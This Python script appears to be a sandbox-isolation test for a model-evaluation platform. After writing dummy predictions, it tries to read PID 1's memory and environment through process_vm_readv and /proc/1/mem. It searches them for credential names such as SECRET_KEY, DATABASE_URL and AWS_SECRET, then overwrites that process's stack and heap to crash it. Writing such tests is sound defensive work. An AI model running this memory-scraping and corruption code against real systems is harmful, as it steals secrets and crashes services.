# TRIES: process 1 is of the same user: reads its memory for secrets, then writes rubbish over its stack and heap.
# MUST REPORT: RUNTIME_ERROR (process 1 crashes), or OK where it cannot be touched.
# NEVER: counted as our failure and tried again; a secret of the platform in the memory or environment of process 1.
import csv
import ctypes
import os
import re

WORDS = re.compile(rb"(SECRET_KEY|DATABASE_URL|REDIS_URL|AWS_SECRET|X-Signature|smartport\.evaluation|id,target,part)")
ids = [row["id"] for row in csv.DictReader(open(os.path.join(os.environ["INPUT_DIR"], "test.csv")))]
with open(os.path.join(os.environ["OUTPUT_DIR"], "predictions.csv"), "w") as file:
    file.write("id,prediction\n" + "".join(f"{name},0\n" for name in ids))


def regions():
    for line in open("/proc/1/maps"):
        span, rights, *_ = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw"):
            yield start, end - start


libc = ctypes.CDLL(None, use_errno=True)
if libc.process_vm_readv(1, None, 0, None, 0, 0) >= 0:
    print("ATTACK-RESULT: SUCCEEDED process_vm_readv", flush=True)
try:
    memory = os.open("/proc/1/mem", os.O_RDWR)
    places = list(regions())
    found = {word for start, size in places for word in WORDS.findall(os.pread(memory, min(size, 1 << 24), start))}
    found |= set(WORDS.findall(open("/proc/1/environ", "rb").read()))
    print("ATTACK-RESULT:", f"SUCCEEDED {found}" if found else "blocked no secrets in process 1", flush=True)
    for start, size in places:
        os.pwrite(memory, b"\xff" * min(size, 1 << 16), start + max(0, size - (1 << 16)))
except OSError as error:
    print("ATTACK-RESULT: blocked", error, flush=True)
